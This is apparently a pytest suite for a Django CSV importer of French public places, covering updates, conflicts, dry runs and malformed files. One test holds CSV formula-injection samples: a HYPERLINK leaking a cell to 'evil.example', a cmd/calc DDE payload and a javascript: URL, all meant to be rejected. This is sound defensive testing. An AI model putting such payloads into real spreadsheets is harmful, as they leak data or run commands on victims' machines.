"""import_places: created, updated, unchanged, rejected, conflicts, missing places, dry run, bad files."""

import codecs

import pytest
from django.core.management import CommandError, call_command

from places.importer import MAX_CELL_CHARS, import_places
from places.models import Place
from tests.places.conftest import csv_bytes, make_row

pytestmark = pytest.mark.django_db


def run(path, dry_run=False):
    with open(path, "rb") as binary:
        return import_places(binary, dry_run=dry_run)


def test_first_import_creates_every_valid_row(csv_file):
    report = run(csv_file([make_row(1), make_row(2, code_postal="09000", code_insee="09122")]))
    assert report.created == ["lieu-1", "lieu-2"] and report.rejected == []
    place = Place.objects.get(standard_id="lieu-2")
    assert place.departement == "09" and place.slug == "lieu-2-toulouse"
    assert place.services == [
        "Maîtrise des outils numériques du quotidien",
        "Insertion professionnelle via le numérique",
        "Loisirs et créations numériques",
    ]
    assert place.imported_values["nom"] == "Lieu 2" and "id" not in place.imported_values
    assert str(place.date_maj) == "2024-04-02" and place.latitude == 43.52609


def test_reimport_reports_unchanged_then_updated(csv_file):
    run(csv_file([make_row(1), make_row(2)]))
    report = run(csv_file([make_row(1), make_row(2)]))
    assert report.unchanged == ["lieu-1", "lieu-2"] and not report.created and not report.updated
    report = run(csv_file([make_row(1), make_row(2, frais_a_charge="Gratuit", nom="Lieu deux")]))
    assert report.updated == {"lieu-2": ["nom", "frais_a_charge"]}
    place = Place.objects.get(standard_id="lieu-2")
    assert place.frais_a_charge == ["Gratuit"] and place.nom == "Lieu deux"
    assert Place.objects.filter(frais_a_charge__has="Gratuit").count() == 1
    assert Place.objects.filter(frais_a_charge__has="Gratuit sous condition").count() == 1


def test_bad_rows_are_rejected_with_reasons_and_good_rows_imported(csv_file):
    rows = [make_row(1), make_row(2, code_postal="310", services="Jardinage"), make_row(3), make_row(1)]
    report = run(csv_file(rows))
    assert report.created == ["lieu-1", "lieu-3"]
    assert [(line, standard_id) for line, standard_id, _ in report.rejected] == [(3, "lieu-2"), (5, "lieu-1")]
    assert {issue.field for issue in report.rejected[0][2]} == {"code_postal", "services"}
    assert report.rejected[1][2][0].rule == "unique"
    assert not Place.objects.filter(standard_id="lieu-2").exists()


def test_hand_edit_is_a_conflict_and_is_kept(csv_file):
    run(csv_file([make_row(1)]))
    place = Place.objects.get()
    place.telephone = "+33561999999"
    place.save()
    report = run(csv_file([make_row(1, telephone="+33562000000", nom="Nouveau nom")]))
    (conflict,) = report.conflicts
    assert (conflict.field, conflict.current, conflict.incoming) == ("telephone", "+33561999999", "+33562000000")
    assert "modifié à la main" in str(conflict)
    assert report.updated == {"lieu-1": ["nom"]}
    place.refresh_from_db()
    assert place.telephone == "+33561999999" and place.nom == "Nouveau nom"
    # Staff bring the site in line with the file: no conflict any more.
    place.telephone = "+33562000000"
    place.save()
    report = run(csv_file([make_row(1, telephone="+33562000000", nom="Nouveau nom")]))
    assert report.conflicts == [] and report.unchanged == ["lieu-1"]


def test_places_no_longer_in_the_file_are_listed_not_deleted(csv_file):
    run(csv_file([make_row(1), make_row(2)]))
    report = run(csv_file([make_row(1)]))
    assert report.missing == [("lieu-2", "Lieu 2")]
    assert Place.objects.count() == 2


def test_dry_run_reports_and_writes_nothing(csv_file):
    run(csv_file([make_row(1)]))
    report = run(csv_file([make_row(1, nom="Autre"), make_row(2)]), dry_run=True)
    assert report.created == ["lieu-2"] and report.updated == {"lieu-1": ["nom"]}
    assert report.summary().startswith("Simulation")
    assert list(Place.objects.values_list("standard_id", "nom")) == [("lieu-1", "Lieu 1")]


def test_semicolon_values_are_stored_with_pipes(csv_file):
    run(csv_file([make_row(1, services="Aide aux démarches administratives;Loisirs et créations numériques")]))
    assert Place.objects.get().services == ["Aide aux démarches administratives", "Loisirs et créations numériques"]


def test_command_prints_the_report(csv_file, capsys):
    path = csv_file([make_row(1), make_row(2, pivot="?")])
    call_command("import_places", str(path))
    out = capsys.readouterr().out
    assert "1 créée," in out and "1 rejetée " in out
    assert "Rejeté : ligne 3 (lieu-2)" in out and "champ « pivot »" in out


def test_bom_is_accepted(csv_file):
    report = run(csv_file(codecs.BOM_UTF8 + csv_bytes([make_row(1)])))
    assert report.created == ["lieu-1"]


def _header():
    return csv_bytes([]).decode()


BAD_FILES = {
    "empty": (b"", "vide"),
    "only blank": (b"\n \n", "vide"),
    "header only": (csv_bytes([]), "aucun lieu"),
    "not UTF-8": (csv_bytes([make_row(1, nom="Médiathèque")]).decode().encode("latin-1"), "UTF-8"),
    "binary": (b"PK\x03\x04\x00\x00\x08\x00" + bytes(range(256)), "binaire"),
    "semicolons": (csv_bytes([make_row(1)], delimiter=";"), "virgules"),
    "missing required column": (
        csv_bytes([make_row(1)], columns=[c for c in csv_bytes([]).decode().strip().split(",") if c != "nom"]),
        "nom",
    ),
    "truncated last row": (csv_bytes([make_row(1), make_row(2)])[:-400], "tronqué"),
    "truncated inside quotes": (_header().encode() + b'"lieu-1","4349331230002', "tronqué"),
    "cell over the limit": (csv_bytes([make_row(1, presentation_detail="x" * (MAX_CELL_CHARS + 1))]), "dépasse"),
    "million-character cell": (csv_bytes([make_row(1, presentation_detail="x" * 1_000_000)]), "dépasse"),
}


@pytest.mark.parametrize("kind", sorted(BAD_FILES))
def test_bad_file_gets_one_french_error_and_changes_nothing(kind, csv_file):
    run(csv_file([make_row(9)]))
    content, expected = BAD_FILES[kind]
    with pytest.raises(CommandError) as raised:
        call_command("import_places", str(csv_file(content)))
    message = str(raised.value)
    assert expected in message and "Rien n'a été importé" in message
    assert list(Place.objects.values_list("standard_id", flat=True)) == ["lieu-9"]


def test_file_over_the_size_limit(csv_file, settings):
    settings.PLACES_IMPORT_MAX_BYTES = 1000
    with pytest.raises(CommandError, match="limite"):
        call_command("import_places", str(csv_file([make_row(1)])))
    assert not Place.objects.exists()


def test_row_with_wrong_column_count_in_the_middle_is_rejected(csv_file):
    content = csv_bytes([make_row(1)]) + b'"lieu-x","123"\n' + csv_bytes([make_row(2)]).split(b"\n", 1)[1]
    report = run(csv_file(content))
    assert report.created == ["lieu-1", "lieu-2"]
    assert report.rejected[0][0] == 3 and report.rejected[0][2][0].rule == "columns"


def test_unreadable_path_is_a_french_error():
    with pytest.raises(CommandError, match="Impossible de lire"):
        call_command("import_places", "/nonexistent/lieux.csv")


def test_a_file_without_some_optional_columns_leaves_them_alone(csv_file):
    run(csv_file([make_row(1)]))
    columns = [column for column in csv_bytes([]).decode().strip().split(",") if column != "horaires"]
    report = run(csv_file(csv_bytes([make_row(1, nom="Autre nom")], columns=columns)))
    assert report.updated == {"lieu-1": ["nom"]}
    assert Place.objects.get().horaires == "Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00"


def test_cells_a_spreadsheet_would_run_are_rejected_and_never_stored(csv_file):
    rows = [
        make_row(1, nom='=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'),
        make_row(2, source="@SUM(1+1)*cmd|' /C calc'!A0"),
        make_row(3, presentation_detail="\t=1+1"),
        make_row(4, site_web="javascript:alert(1)"),
        make_row(5, telephone="+33561000000", longitude="-1.44367"),
    ]
    report = run(csv_file(rows))
    assert report.created == ["lieu-5"]
    rejected = {
        standard_id: [(issue.line, issue.field, issue.rule) for issue in issues]
        for _, standard_id, issues in report.rejected
    }
    assert rejected == {
        "lieu-1": [(2, "nom", "formula")],
        "lieu-2": [(3, "source", "formula")],
        "lieu-3": [(4, "presentation_detail", "formula")],
        "lieu-4": [(5, "site_web", "url")],
    }
    assert "ligne 4, champ « presentation_detail », valeur « =1+1 »" in str(report.rejected[2][2][0])
    place = Place.objects.get()
    assert (place.telephone, place.longitude) == ("+33561000000", -1.44367)


@pytest.mark.parametrize("line", [3, 120])
def test_a_byte_that_is_not_utf8_is_reported_on_its_own_line(csv_file, line):
    # Line 120 lies far beyond the first block the text reader decodes ahead.
    content = csv_bytes([make_row(number) for number in range(1, line)])
    lines = content.split(b"\n")
    lines[line - 1] = lines[line - 1].replace(b"Lieu", b"Lieu \xe9", 1)
    with pytest.raises(CommandError) as raised:
        call_command("import_places", str(csv_file(b"\n".join(lines))))
    assert f"n'est pas encodé en UTF-8 (ligne {line})" in str(raised.value)
    assert not Place.objects.exists()
